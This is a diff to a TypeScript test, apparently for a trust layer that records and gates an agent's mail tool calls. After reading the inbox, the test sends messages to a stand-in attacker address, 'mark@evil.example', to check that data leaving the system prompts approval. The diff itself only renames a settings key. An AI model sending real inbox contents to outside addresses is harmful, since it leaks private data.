@@ -146,13 +146,17 @@ describe('the audit', () => {
     ];
     writeFileSync(join(folder, 'mail.json'), JSON.stringify({ tools }));
     const flow = { mode: 'record' };
-    const config = { servers: { mail: fixture('scripted', join(folder, 'mail.json')) }, flow, slowCallSeconds: 0 };
+    const config = {
+      servers: { mail: fixture('scripted', join(folder, 'mail.json')) },
+      dataFlow: flow,
+      slowCallSeconds: 0,
+    };
     await using core = await startCore(config, { askToken: true });
     const client = await core.open();
     const send = (to: string, body: string) => client.callTool('mail_send_email', { to, body });
     await client.callTool('mail_read_inbox');
     await send('mark@evil.example', 'first');
-    await ask(core, 'setSettings', { flow: 'ask' });
+    await ask(core, 'setSettings', { dataFlow: 'ask' });
     const { questions } = core.host.core.trust;
     for (const [body, choice] of [['second', 'once'] as const, ['third', 'always'] as const]) {
       const sent = send('mark@evil.example', body);
